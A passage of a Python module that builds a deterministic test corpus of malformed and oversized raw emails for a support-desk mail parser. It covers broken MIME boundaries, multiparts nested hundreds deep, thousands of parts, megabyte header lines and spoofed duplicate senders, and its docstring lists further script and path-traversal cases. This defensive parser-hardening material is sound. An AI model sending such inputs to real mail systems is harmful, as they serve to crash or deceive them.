"""Raw RFC 5322 messages a real mail intake meets: the test corpus for casedesk.mail.

``messages()`` returns ``(name, raw_bytes)`` pairs. Names are ``family/variation``; every entry is built
programmatically and deterministically (fixed seeds, no network, no clock), so the same call gives the same
bytes on every machine. Unless a message is about the absence of something it is a plausible message from a
customer to support@plmgroup.se.

Families:

- ``plain/``            well-formed baselines (ASCII, UTF-8, alternative, attachment, reply)
- ``broken-boundary/``  missing/mismatched/duplicated/absent boundaries, no closing boundary, boundary inside
                        base64, multipart without boundary parameter, empty multipart, boundary prefix clashes
- ``nested/``           multiparts 20..500 deep, unclosed deep nesting
- ``many-parts/``       3000 tiny parts, 1000 attachments, 3000 empty parts, 3000 unclosed parts
- ``headers/``          missing From/To/Subject/Date/Message-ID, duplicated headers, 100 KB Subject,
                        1 MB unfolded header lines, 10,000 headers, raw 8-bit (Latin-1, UTF-8, KOI8-R),
                        header lines without colon, NUL bytes
- ``rfc2047/``          malformed encoded words (bad charset, bad base64/Q, truncated, split multibyte, ...)
- ``address/``          malformed addresses ("<<a@b>>", "a@", "@b"), groups, 500 recipients, IDN, spoofing
- ``date/``             Date headers in wrong or impossible formats
- ``line-endings/``     CR-only, LF-only, mixed, CRCRLF, bare CR inside header values
- ``body-base64/``      wrong padding, non-alphabet characters, truncated, url-safe alphabet, 1 MB line
- ``body-qp/``          bad quoted-printable escapes, soft break at EOF, raw 8-bit, overlong lines
- ``charset/``          UTF-8, ISO-8859-1, ISO-8859-15, Windows-1252, KOI8-R, ISO-2022-JP, GB18030,
                        Shift_JIS, UTF-16 with/without BOM, each as 8bit/base64/quoted-printable
- ``charset-wrong/``    declared charset does not match the bytes
- ``charset-unknown/``  "x-unknown", "utf-9", empty, quoted, aliases
- ``cte/``              unknown or misused Content-Transfer-Encoding (x-uuencode, 8bit with binary, ...)
- ``html/``             text/html only: <script>, on* handlers, javascript: links, <style>, tracking
                        images, forms, iframes, broken tags
- ``attachment/``       zero-byte, large (up to one over a 25 MiB limit), octet-stream without a name
- ``filename-2231/``    RFC 2231 filenames: encoded, continuations, charsets, broken forms
- ``filename-evil/``    path traversal and hostile names (plain and RFC 2231 forms)
- ``inline/``           inline images with Content-ID (multipart/related), broken cid references
- ``rfc822/``           attached messages, nested 10+ deep, garbage inside, wrong encodings
- ``tnef/``             winmail.dat (application/ms-tnef), also truncated and with bad checksums
- ``auto-reply/``       Auto-Submitted, X-Autoreply, X-Autorespond, Precedence, out-of-office subjects
- ``bounce/``           multipart/report delivery-status (with original, headers only, none), MDN, ARF,
                        plain-text and Exchange-style bounces
- ``list/``             mailing-list and newsletter mail (List-Id, List-Unsubscribe, ...)
- ``reply/``            In-Reply-To/References to unknown ids, malformed references, 500 references
- ``case-ref/``         subjects quoting case numbers ("Re: [PLM-000123] ...", "C1234567", ...)
- ``edge/``             empty message, headers only, body only, binary garbage, NUL blob, one long line,
                        mbox "From " line, SMTP dot-stuffing, truncated messages

Run ``python tests/mail/corpus.py`` for the count and the total size.
"""

from __future__ import annotations

import base64
import binascii
import datetime as dt
import quopri
import random
import struct
import zlib
from collections.abc import Collection, Iterable, Sequence
from email.utils import format_datetime

__all__ = ["messages"]

CRLF = b"\r\n"
SUPPORT = "support@plmgroup.se"
TO = "PLM Support <support@plmgroup.se>"
LIMIT = 25 * 1024 * 1024  # the attachment size limit the corpus straddles

Header = tuple[str, str | bytes]
Entry = tuple[str, bytes]

_BASE_DATE = dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))

_SENDERS: tuple[tuple[str, str], ...] = (
    ("Anna Lindqvist", "anna.lindqvist@customer-ab.se"),
    ("Jonas Berg", "jonas@berg-konsult.se"),
    ("Maria Nilsson", "maria.nilsson@example.com"),
    ("Erik Holm", "erik.holm@industri.example"),
    ("Sofia Ek", "sofia.ek@reseller.example.net"),
    ("Lars Persson", "lars@persson.example.org"),
    ("Karin Dahl", "karin.dahl@verkstad.example"),
    ("Peter Wolf", "p.wolf@maschinenbau.example.de"),
)

# Sample texts per script; SV has no euro sign so it fits ISO-8859-1.
SV = "Hej! Licensservern startar inte efter uppdateringen. Åtgärden måste göras före fredag, tack på förhand."
SV_EURO = SV + " Fakturan på 1 200 € är betald."
CP1252 = SV_EURO + " Han skrev \u201ddet fungerar inte\u201d \u2013 igen\u2026"
RU = "Здравствуйте! Лицензионный сервер не запускается после обновления. Помогите, пожалуйста."
JA = "お世話になっております。アップデート後にライセンスサーバーが起動しません。"
ZH = "您好，许可证服务器在更新后无法启动。请尽快处理，谢谢。"
EMOJI = "License server down again 🙁 – please help 🙏"

_GIF_1X1 = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
_PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
_JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


# --------------------------------------------------------------------------------------------- helpers


class _Corpus:
    def __init__(self) -> None:
        self.entries: list[Entry] = []
        self._seen: set[str] = set()

    def add(self, name: str, data: bytes) -> None:
        if name in self._seen:
            raise ValueError(f"duplicate corpus name {name!r}")
        self._seen.add(name)
        self.entries.append((name, data))


def _b(value: str | bytes) -> bytes:
    """Header values and body lines: str must be ASCII (8-bit content is always passed as explicit bytes)."""
    return value if isinstance(value, bytes) else value.encode("ascii")


def _lines(*lines: str | bytes) -> bytes:
    return b"".join(_b(line) + CRLF for line in lines)


def _head(headers: Iterable[Header]) -> bytes:
    return b"".join(name.encode("ascii") + b": " + _b(value) + CRLF for name, value in headers)


def _msg(headers: Iterable[Header], body: bytes = b"") -> bytes:
    """A message or a MIME part: header lines, the empty line, the body."""
    return _head(headers) + CRLF + body


def _multipart(
    boundary: str | bytes,
    parts: Iterable[bytes],
    *,
    preamble: bytes = b"",
    epilogue: bytes = b"",
    close: bool = True,
) -> bytes:
    bnd = _b(boundary)
    chunks = [preamble + CRLF] if preamble else []
    chunks.extend(b"--" + bnd + CRLF + part + CRLF for part in parts)
    if close:
        chunks.append(b"--" + bnd + b"--" + CRLF)
    chunks.append(epilogue)
    return b"".join(chunks)


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", CRLF)


def _qp(data: bytes) -> bytes:
    """Quoted-printable of text with LF or CRLF line ends; CRLF line ends out."""
    return quopri.encodestring(data.replace(CRLF, b"\n")).replace(b"\n", CRLF)


def _rand(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _b64_big(size: int, seed: int) -> bytes:
    """Base64 of ``size`` deterministic bytes, built from one encoded block (fast for tens of MB)."""
    block = _rand(seed, 57 * 1024)  # 1024 whole 76-column lines, no padding inside the repeats
    full, rest = divmod(size, len(block))
    return _b64(block) * full + _b64(block[:rest])


def _key(name: str) -> int:
    return zlib.crc32(name.encode("utf-8"))


def _sender(name: str) -> tuple[str, str]:
    return _SENDERS[_key(name) % len(_SENDERS)]


def _date(name: str) -> str:
    return format_datetime(_BASE_DATE + dt.timedelta(seconds=_key(name) % (28 * 86400)))


def _msgid(name: str, addr: str | None = None) -> str:
    domain = (addr or _sender(name)[1]).split("@", 1)[1]
    return f"<{_key(name):08x}.{len(name)}@mail.{domain}>"


def _std(
    name: str,
    subject: str | bytes,
    *,
    ctype: str | bytes | None = "text/plain; charset=us-ascii",
    cte: str | bytes | None = "7bit",
    extra: Sequence[Header] = (),
    omit: Collection[str] = (),
    sender: tuple[str, str] | None = None,
    to: str | bytes = TO,
) -> list[Header]:
    """The usual header block of a customer's message; ``omit`` drops headers by (case-insensitive) name."""
    display, addr = sender or _sender(name)
    headers: list[Header] = [
        ("Return-Path", f"<{addr}>"),
        ("Received", f"from mail.{addr.split('@', 1)[1]} (mail [192.0.2.25]) by mx.plmgroup.se; {_date(name)}"),
        ("From", f"{display} <{addr}>"),
        ("To", to),
        ("Subject", subject),
        ("Date", _date(name)),
        ("Message-ID", _msgid(name, addr)),
        ("MIME-Version", "1.0"),
    ]
    if ctype is not None:
        headers.append(("Content-Type", ctype))
    if cte is not None:
        headers.append(("Content-Transfer-Encoding", cte))
    headers.extend(extra)
    dropped = {o.lower() for o in omit}
    return [(k, v) for k, v in headers if k.lower() not in dropped]


def _text(name: str, *extra: str) -> bytes:
    display, _ = _sender(name)
    return _lines(
        "Hi,",
        "",
        "The license server stopped after the upgrade to 2026.3.",
        "Error: LM-0042 vendor daemon down. Restarting the service does not help.",
        *extra,
        "",
        "Regards,",
        display,
    )


def _text_part(text: bytes = b"Please see the attachment.\r\n", charset: str = "us-ascii") -> bytes:
    return _msg([("Content-Type", f"text/plain; charset={charset}"), ("Content-Transfer-Encoding", "7bit")], text)


def _attachment(
    filename_params: str | bytes,
    data: bytes,
    ctype: str | bytes = "application/pdf",
    *,
    encoded: bytes | None = None,
) -> bytes:
    return _msg(
        [
            ("Content-Type", ctype),
            ("Content-Disposition", b"attachment; " + _b(filename_params)),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(data) if encoded is None else encoded,
    )


def _with_attachment(name: str, subject: str | bytes, att: bytes, boundary: str = "=_mixed_0001") -> bytes:
    body = _multipart(boundary, [_text_part(_text(name)), att])
    return _msg(_std(name, subject, ctype=f'multipart/mixed; boundary="{boundary}"', cte=None), body)


def _ew(text: str, charset: str, codec: str | None = None, mode: str = "B") -> str:
    """One RFC 2047 encoded word (not split at 75 characters; some tests want long ones anyway)."""
    data = text.encode(codec or charset)
    if mode.upper() == "B":
        payload = base64.b64encode(data).decode("ascii")
    else:
        payload = "".join(
            chr(c) if chr(c).isascii() and chr(c).isalnum() else ("_" if c == 0x20 else f"={c:02X}") for c in data
        )
    return f"=?{charset}?{mode}?{payload}?="


def _png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xd0\x20\x20" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


# --------------------------------------------------------------------------------------------- families


def _plain(c: _Corpus) -> None:
    n = "plain/ascii"
    c.add(n, _msg(_std(n, "License server does not start"), _text(n)))

    n = "plain/utf8-qp"
    body = _qp((SV + "\n\n" + RU + "\n").encode("utf-8"))
    c.add(
        n,
        _msg(
            _std(
                n, _ew("Licensservern startar inte", "utf-8"), ctype="text/plain; charset=utf-8", cte="quoted-printable"
            ),
            body,
        ),
    )

    n = "plain/utf8-8bit"
    c.add(
        n,
        _msg(
            _std(n, _ew(EMOJI, "utf-8"), ctype="text/plain; charset=utf-8", cte="8bit"),
            (EMOJI + "\r\n\r\n" + SV + "\r\n").encode("utf-8"),
        ),
    )

    n = "plain/alternative"
    alt = _multipart(
        "=_alt_1",
        [
            _text_part(_text(n)),
            _msg(
                [("Content-Type", "text/html; charset=us-ascii")],
                b"<html><body><p>The license server stopped after the upgrade.</p></body></html>\r\n",
            ),
        ],
    )
    c.add(n, _msg(_std(n, "License server down", ctype='multipart/alternative; boundary="=_alt_1"', cte=None), alt))

    n = "plain/pdf-attachment"
    c.add(n, _with_attachment(n, "Log file attached", _attachment('filename="lmgrd.pdf"', _PDF)))

    n = "plain/reply-known-case"
    c.add(
        n,
        _msg(
            _std(
                n,
                "Re: [PLM-000123] License server down",
                extra=[
                    ("In-Reply-To", "<case-000123.1@plmgroup.se>"),
                    ("References", "<case-000123.0@plmgroup.se> <case-000123.1@plmgroup.se>"),
                ],
            ),
            _lines("Thanks, that fixed it.", "", "> Please restart lmgrd with -z."),
        ),
    )

    n = "plain/format-flowed"
    c.add(
        n,
        _msg(
            _std(n, "Flowed text", ctype="text/plain; charset=utf-8; format=flowed; delsp=yes", cte="8bit"),
            "Det här är en lång rad som har brutits av klienten enligt \r\nformat=flowed, och ska "
            "sättas ihop \r\nigen.\r\n-- \r\nAnna\r\n".encode(),
        ),
    )


def _broken_boundary(c: _Corpus) -> None:
    fam = "broken-boundary"
    bnd = "=_Part_0_1564.1764"

    def parts(name: str, count: int) -> list[bytes]:
        out = [_text_part(_text(name))]
        out += [
            _attachment(f'filename="log-{i}.txt"', f"line {i}\n".encode() * 20, "text/plain") for i in range(1, count)
        ]
        return out

    def mixed(name: str, subject: str, body: bytes, ctype: str | bytes = f'multipart/mixed; boundary="{bnd}"') -> None:
        c.add(name, _msg(_std(name, subject, ctype=ctype, cte=None), body))

    for i, count in enumerate((1, 2, 3, 10, 50), start=1):
        n = f"{fam}/missing-close-{i}"
        mixed(n, f"Logs ({count} parts, no closing boundary)", _multipart(bnd, parts(n, count), close=False))

    n = f"{fam}/missing-close-ends-mid-part"
    body = _multipart(bnd, parts(n, 2), close=False) + b"--" + bnd.encode() + CRLF + b"Content-Type: text/pl"
    mixed(n, "Cut off", body)

    n = f"{fam}/missing-close-nested"
    inner = _multipart("=_inner_7", [_text_part(b"inner one\r\n"), _text_part(b"inner two\r\n")], close=False)
    body = _multipart(
        bnd, [_text_part(_text(n)), _msg([("Content-Type", 'multipart/alternative; boundary="=_inner_7"')], inner)]
    )
    mixed(n, "Inner multipart never closed", body)

    n = f"{fam}/mismatched-all"
    mixed(n, "Boundary in header differs from body", _multipart("=_Other_9", parts(n, 2)))

    n = f"{fam}/mismatched-close"
    body = _multipart(bnd, parts(n, 2), close=False) + b"--" + bnd.encode() + b"X--" + CRLF
    mixed(n, "Closing boundary differs", body)

    n = f"{fam}/mismatched-case"
    mixed(n, "Boundary differs in case", _multipart(bnd.upper(), parts(n, 2)))

    n = f"{fam}/mismatched-quoted-space"
    mixed(n, "Quoted boundary with space", _multipart("abc", parts(n, 2)), 'multipart/mixed; boundary="abc def"')

    n = f"{fam}/mismatched-unquoted-special"
    mixed(n, "Unquoted boundary with specials", _multipart("a=b:c?d", parts(n, 2)), "multipart/mixed; boundary=a=b:c?d")

    n = f"{fam}/duplicated-param"
    mixed(
        n,
        "Two boundary parameters",
        _multipart("=_second", parts(n, 2)),
        'multipart/mixed; boundary="=_first"; boundary="=_second"',
    )

    n = f"{fam}/duplicated-content-type"
    c.add(
        n,
        _msg(
            _std(
                n,
                "Two Content-Type headers",
                ctype='multipart/mixed; boundary="=_first"',
                cte=None,
                extra=[("Content-Type", 'multipart/mixed; boundary="=_second"')],
            ),
            _multipart("=_second", parts(n, 2)),
        ),
    )

    n = f"{fam}/duplicated-nested-same"
    inner = _multipart(bnd, [_text_part(b"inner plain\r\n"), _text_part(b"inner second\r\n")])
    body = _multipart(
        bnd,
        [
            _msg([("Content-Type", f'multipart/alternative; boundary="{bnd}"')], inner),
            _attachment('filename="a.pdf"', _PDF),
        ],
    )
    mixed(n, "Inner multipart reuses the outer boundary", body)

    n = f"{fam}/duplicated-close"
    body = _multipart(bnd, parts(n, 2)) + b"--" + bnd.encode() + b"--" + CRLF
    body += b"--" + bnd.encode() + CRLF + _text_part(b"after the close\r\n") + CRLF + b"--" + bnd.encode() + b"--\r\n"
    mixed(n, "Closed twice, parts after close", body)

    n = f"{fam}/prefix-of-inner"
    inner = _multipart(bnd + "-inner", [_text_part(b"inner one\r\n"), _text_part(b"inner two\r\n")])
    body = _multipart(
        bnd,
        [
            _msg([("Content-Type", f'multipart/alternative; boundary="{bnd}-inner"')], inner),
            _text_part(b"outer second\r\n"),
        ],
    )
    mixed(n, "Outer boundary is a prefix of the inner one", body)

    for i, where in enumerate((10, 200, 1000), start=1):
        n = f"{fam}/inside-base64-{i}"
        enc = _b64(_rand(100 + i, 4000))
        cut = enc.index(CRLF, where) + 2
        enc = enc[:cut] + b"--" + bnd.encode() + CRLF + enc[cut:]
        body = _multipart(
            bnd,
            [_text_part(_text(n)), _attachment('filename="dump.bin"', b"", "application/octet-stream", encoded=enc)],
        )
        mixed(n, "Boundary line inside base64 data", body)

    n = f"{fam}/inside-base64-glued"
    enc = _b64(_rand(104, 3000)).rstrip(CRLF) + b"--" + bnd.encode() + b"--" + CRLF
    body = _multipart(
        bnd, [_text_part(_text(n)), _attachment('filename="dump.bin"', b"", "application/octet-stream", encoded=enc)]
    )
    mixed(n, "Closing boundary glued to the last base64 line", body)

    n = f"{fam}/base64-alphabet-boundary"
    enc = _b64(b"QUJD" * 500)
    body = _multipart(
        "QUJD", [_text_part(_text(n)), _attachment('filename="q.bin"', b"", "application/octet-stream", encoded=enc)]
    )
    mixed(n, "Boundary made of base64 characters", body, 'multipart/mixed; boundary="QUJD"')

    for sub in ("mixed", "alternative", "related", "report", "signed"):
        n = f"{fam}/no-boundary-param-{sub}"
        mixed(n, f"multipart/{sub} without boundary", _multipart(bnd, parts(n, 2)), f"multipart/{sub}")

    n = f"{fam}/empty-boundary-param"
    mixed(n, 'boundary=""', _multipart("", parts(n, 2)), 'multipart/mixed; boundary=""')

    n = f"{fam}/boundary-param-no-value"
    mixed(n, "boundary=", _multipart(bnd, parts(n, 2)), "multipart/mixed; boundary=")

    n = f"{fam}/boundary-200-chars"
    long_b = "=_" + "x" * 198
    mixed(n, "Boundary over 70 characters", _multipart(long_b, parts(n, 2)), f'multipart/mixed; boundary="{long_b}"')

    n = f"{fam}/empty-multipart-close-only"
    mixed(n, "Empty multipart", b"--" + bnd.encode() + b"--" + CRLF)

    n = f"{fam}/empty-multipart-no-body"
    mixed(n, "Empty multipart, no body", b"")

    n = f"{fam}/empty-multipart-preamble-only"
    mixed(n, "Only a preamble", b"This is a multi-part message in MIME format.\r\n")

    n = f"{fam}/empty-parts"
    mixed(n, "Parts without headers or bodies", _multipart(bnd, [b"", b"", b""]))

    n = f"{fam}/missing-open"
    body = _text(n) + b"--" + bnd.encode() + b"--" + CRLF
    mixed(n, "Only a closing boundary", body)

    n = f"{fam}/transport-padding"
    body = b"".join(b"--" + bnd.encode() + b" \t " + CRLF + p + CRLF for p in parts(n, 2))
    body += b"--" + bnd.encode() + b"--   " + CRLF
    mixed(n, "Whitespace after boundaries", body)

    n = f"{fam}/no-crlf-before-boundary"
    body = b"--" + bnd.encode() + CRLF + _text_part(b"text glued") + b"--" + bnd.encode() + CRLF
    body += _text_part(b"second") + b"--" + bnd.encode() + b"--"
    mixed(n, "Boundaries glued to part text", body)

    n = f"{fam}/part-without-blank-line"
    body = _multipart(
        bnd, [b"Content-Type: text/plain\r\nThis line should be body text\r\n", b"no headers at all, just text\r\n"]
    )
    mixed(n, "Part headers run into the body", body)

    n = f"{fam}/huge-preamble-epilogue"
    body = _multipart(bnd, parts(n, 2), preamble=b"preamble line\r\n" * 20000, epilogue=b"epilogue line\r\n" * 20000)
    mixed(n, "100k lines of preamble and epilogue", body)


def _nested_multipart(depth: int, *, close: bool = True, kind: str = "mixed") -> tuple[str, bytes]:
    ctype, body = "text/plain; charset=us-ascii", b"The innermost text part.\r\n"
    for level in range(depth, 0, -1):
        bnd = f"=_nest_{level:04d}"
        body = _multipart(bnd, [_msg([("Content-Type", ctype)], body)], close=close)
        ctype = f'multipart/{kind}; boundary="{bnd}"'
    return ctype, body


def _nested(c: _Corpus) -> None:
    for depth in (20, 21, 32, 50, 100, 500):
        n = f"nested/multipart-depth-{depth}"
        ctype, body = _nested_multipart(depth)
        c.add(n, _msg(_std(n, f"Nested {depth} deep", ctype=ctype, cte=None), body))
    for depth in (25, 200):
        n = f"nested/unclosed-depth-{depth}"
        ctype, body = _nested_multipart(depth, close=False)
        c.add(n, _msg(_std(n, f"Nested {depth} deep, never closed", ctype=ctype, cte=None), body))
    n = "nested/alternative-depth-30"
    ctype, body = _nested_multipart(30, kind="alternative")
    c.add(n, _msg(_std(n, "Alternative inside alternative 30 deep", ctype=ctype, cte=None), body))

    n = "nested/wide-and-deep"
    ctype, deep = _nested_multipart(20)
    leaves = [_msg([("Content-Type", ctype)], deep) for _ in range(20)]
    c.add(
        n,
        _msg(
            _std(n, "20 branches, each 20 deep", ctype='multipart/mixed; boundary="=_wide"', cte=None),
            _multipart("=_wide", leaves),
        ),
    )


def _many_parts(c: _Corpus) -> None:
    fam = "many-parts"
    bnd = "=_many"
    ctype = f'multipart/mixed; boundary="{bnd}"'

    n = f"{fam}/text-3000"
    c.add(
        n,
        _msg(
            _std(n, "3000 tiny parts", ctype=ctype, cte=None),
            _multipart(bnd, [_text_part(f"part {i}\r\n".encode()) for i in range(3000)]),
        ),
    )
    n = f"{fam}/attachments-1000"
    c.add(
        n,
        _msg(
            _std(n, "1000 tiny attachments", ctype=ctype, cte=None),
            _multipart(
                bnd,
                [_text_part(_text(n))]
                + [_attachment(f'filename="f{i:04d}.txt"', f"{i}\n".encode(), "text/plain") for i in range(1000)],
            ),
        ),
    )
    n = f"{fam}/empty-3000"
    c.add(n, _msg(_std(n, "3000 empty parts", ctype=ctype, cte=None), _multipart(bnd, [b""] * 3000)))
    n = f"{fam}/unclosed-3000"
    c.add(
        n,
        _msg(
            _std(n, "3000 parts, no close", ctype=ctype, cte=None),
            _multipart(bnd, [_text_part(f"p{i}\r\n".encode()) for i in range(3000)], close=False),
        ),
    )
    n = f"{fam}/inline-images-500"
    imgs = [
        _msg(
            [
                ("Content-Type", "image/png"),
                ("Content-Transfer-Encoding", "base64"),
                ("Content-ID", f"<img{i}@x>"),
                ("Content-Disposition", "inline"),
            ],
            _b64(_png(1, 1)),
        )
        for i in range(500)
    ]
    html = ("<html><body>" + "".join(f'<img src="cid:img{i}@x">' for i in range(500)) + "</body></html>").encode()
    rel = [_msg([("Content-Type", "text/html; charset=us-ascii")], html + CRLF), *imgs]
    c.add(
        n,
        _msg(
            _std(n, "500 inline images", ctype=f'multipart/related; boundary="{bnd}"', cte=None), _multipart(bnd, rel)
        ),
    )


def _headers(c: _Corpus) -> None:
    fam = "headers"
    for h in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Return-Path", "Received"):
        n = f"{fam}/missing-{h.lower()}"
        c.add(n, _msg(_std(n, f"No {h} header", omit=[h]), _text(n)))
    n = f"{fam}/missing-from-and-return-path"
    c.add(n, _msg(_std(n, "Nobody sent this", omit=["From", "Return-Path"]), _text(n)))
    n = f"{fam}/missing-from-has-sender"
    c.add(
        n,
        _msg(
            _std(n, "Only Sender", omit=["From"], extra=[("Sender", "Anna <anna.lindqvist@customer-ab.se>")]), _text(n)
        ),
    )
    n = f"{fam}/missing-from-has-reply-to"
    c.add(
        n,
        _msg(_std(n, "Only Reply-To", omit=["From"], extra=[("Reply-To", "anna.lindqvist@customer-ab.se")]), _text(n)),
    )
    n = f"{fam}/missing-all-standard"
    c.add(n, _msg([("Content-Type", "text/plain; charset=us-ascii")], _text(n)))
    n = f"{fam}/missing-mime-version-8bit"
    c.add(
        n,
        _msg(
            _std(n, "No MIME-Version", omit=["MIME-Version"], ctype="text/plain; charset=utf-8", cte="8bit"),
            SV.encode() + CRLF,
        ),
    )
    n = f"{fam}/missing-to-only-bcc"
    c.add(n, _msg(_std(n, "Support was Bcc'd", omit=["To"], extra=[("Delivered-To", SUPPORT)]), _text(n)))

    for h in ("From", "To", "Subject", "Date", "Message-ID"):
        n = f"{fam}/empty-{h.lower()}"
        c.add(
            n, _msg([(k, b"" if k == h else v) for k, v in _std(n, "x")] if h != "Subject" else _std(n, b""), _text(n))
        )

    dup_extra: dict[str, Header] = {
        "subject": ("Subject", "A second, different subject"),
        "from": ("From", "Mallory <mallory@evil.example>"),
        "message-id": ("Message-ID", "<second-id@evil.example>"),
        "to": ("To", "other@plmgroup.se"),
        "date": ("Date", "Thu, 01 Jan 1970 00:00:00 +0000"),
        "content-type": ("Content-Type", "text/html; charset=iso-8859-1"),
        "content-transfer-encoding": ("Content-Transfer-Encoding", "base64"),
        "mime-version": ("MIME-Version", "2.0"),
        "in-reply-to": ("In-Reply-To", "<b@unknown>"),
    }
    for key, extra in dup_extra.items():
        n = f"{fam}/duplicated-{key}"
        c.add(
            n,
            _msg(
                _std(n, "Duplicated header", extra=[("In-Reply-To", "<a@unknown>")] * (key == "in-reply-to") + [extra]),
                _text(n),
            ),
        )
    n = f"{fam}/duplicated-subject-x5"
    c.add(n, _msg(_std(n, "Subject 1", extra=[("Subject", f"Subject {i}") for i in range(2, 6)]), _text(n)))
    n = f"{fam}/duplicated-identical-message-id"
    c.add(n, _msg(_std(n, "Same Message-ID twice", extra=[("Message-ID", _msgid(n))]), _text(n)))

    words = " ".join(f"word{i:05d}" for i in range(11000)).encode()[: 100 * 1024]
    n = f"{fam}/subject-100k-unfolded"
    c.add(n, _msg(_std(n, words), _text(n)))
    n = f"{fam}/subject-100k-folded"
    folded = b"\r\n ".join(words[i : i + 70] for i in range(0, len(words), 70))
    c.add(n, _msg(_std(n, folded), _text(n)))
    n = f"{fam}/subject-100k-encoded-words"
    ew = " ".join(_ew(f"Ärende {i} åäö", "utf-8") for i in range(100 * 1024 // 40))
    c.add(n, _msg(_std(n, ew), _text(n)))
    n = f"{fam}/subject-100k-no-spaces"
    c.add(n, _msg(_std(n, b"S" * (100 * 1024)), _text(n)))

    mb = 1024 * 1024
    n = f"{fam}/line-1m-x-header"
    c.add(n, _msg(_std(n, "A 1 MB header line", extra=[("X-Filler", b"A" * mb)]), _text(n)))
    n = f"{fam}/line-1m-subject-words"
    c.add(n, _msg(_std(n, (b"long subject " * (mb // 13 + 1))[:mb]), _text(n)))
    n = f"{fam}/line-1m-from"
    c.add(
        n,
        _msg(
            [
                (k, (b'"' + b"N" * mb + b'" <anna@customer-ab.se>') if k == "From" else v)
                for k, v in _std(n, "1 MB display name")
            ],
            _text(n),
        ),
    )
    n = f"{fam}/line-1m-content-type-param"
    c.add(
        n, _msg(_std(n, "1 MB Content-Type parameter", ctype=b"text/plain; charset=us-ascii; x=" + b"v" * mb), _text(n))
    )
    n = f"{fam}/received-10000"
    rec = [
        (
            "Received",
            f"from relay{i}.example (relay{i}.example [192.0.2.{i % 250}]) by relay{i + 1}.example; {_date(n)}",
        )
        for i in range(10000)
    ]
    c.add(n, _msg(rec + _std(n, "Mail loop: 10,000 Received headers"), _text(n)))
    n = f"{fam}/x-headers-20000"
    c.add(n, _msg(_std(n, "20,000 short headers", extra=[(f"X-H{i}", str(i)) for i in range(20000)]), _text(n)))

    eight: dict[str, tuple[str, str]] = {
        "latin1": ("iso-8859-1", "Fråga om licens, årsavgift för 2026"),
        "utf8": ("utf-8", "Fråga om licens – årsavgift för 2026 🙂"),
        "koi8r": ("koi8-r", "Проблема с лицензией"),
    }
    names = {"latin1": "Åsa Öberg", "utf8": "Åsa Öberg ✓", "koi8r": "Иван Петров"}
    for label, (codec, subject) in eight.items():
        n = f"{fam}/8bit-subject-{label}"
        c.add(n, _msg(_std(n, subject.encode(codec)), _text(n)))
        n = f"{fam}/8bit-from-{label}"
        frm = names[label].encode(codec) + b" <asa.oberg@customer-ab.se>"
        c.add(n, _msg([(k, frm if k == "From" else v) for k, v in _std(n, "8-bit display name")], _text(n)))
        n = f"{fam}/8bit-all-{label}"
        hdrs = _std(
            n,
            subject.encode(codec),
            ctype=f"text/plain; charset={codec}",
            cte="8bit",
            extra=[("Organization", names[label].encode(codec)), ("X-Mailer", "Bat! 9".encode(codec))],
        )
        c.add(n, _msg([(k, frm if k == "From" else v) for k, v in hdrs], subject.encode(codec) + CRLF))
    n = f"{fam}/8bit-mixed-charsets"
    c.add(
        n,
        _msg(
            [
                (k, "Åsa Öberg <asa@x.example>".encode("latin-1") if k == "From" else v)
                for k, v in _std(n, "Проблема".encode("koi8-r") + " – fråga".encode())
            ],
            _text(n),
        ),
    )
    n = f"{fam}/8bit-header-name"
    c.add(n, _head(_std(n, "8-bit header name")) + "X-Ärende: 1\r\n".encode("latin-1") + CRLF + _text(n))
    n = f"{fam}/8bit-invalid-utf8"
    c.add(n, _msg(_std(n, b"Broken \xc3\x28 \xa0\xa1 \xf0\x28\x8c\xbc \xed\xa0\x80 surrogate"), _text(n)))

    def raw_lines(name: str, *, before: bytes = b"", after_from: bytes = b"", after_all: bytes = b"") -> bytes:
        hdrs = _std(name, "Header line without colon")
        head = b""
        for k, v in hdrs:
            head += k.encode() + b": " + _b(v) + CRLF
            if k == "From":
                head += after_from
        return before + head + after_all + CRLF + _text(name)

    n = f"{fam}/no-colon-first-line"
    c.add(n, raw_lines(n, before=b"This is not a header\r\n"))
    n = f"{fam}/no-colon-middle"
    c.add(n, raw_lines(n, after_from=b"X-Broken header without colon\r\n"))
    n = f"{fam}/no-colon-last"
    c.add(n, raw_lines(n, after_all=b"Thanks-for-your-help\r\n"))
    n = f"{fam}/space-before-colon"
    c.add(n, raw_lines(n, before=b"Subject : spaced colon\r\n"))
    n = f"{fam}/empty-header-name"
    c.add(n, raw_lines(n, after_from=b": value without a name\r\n"))
    n = f"{fam}/continuation-first-line"
    c.add(n, raw_lines(n, before=b"   leading whitespace continuation\r\n"))
    n = f"{fam}/name-with-space"
    c.add(n, raw_lines(n, after_from=b"X Bad Name: value\r\n"))
    n = f"{fam}/tab-separated"
    c.add(n, raw_lines(n, after_from=b"X-Tab:\tvalue\r\nX-NoSpace:value\r\n"))
    n = f"{fam}/whitespace-only-continuations"
    c.add(n, raw_lines(n, after_from=b"X-Empty-Folds:\r\n \r\n \r\n\t\r\n"))

    n = f"{fam}/nul-in-subject"
    c.add(n, _msg(_std(n, b"Licens\x00fel \x00\x00"), _text(n)))
    n = f"{fam}/nul-in-from"
    c.add(
        n,
        _msg(
            [
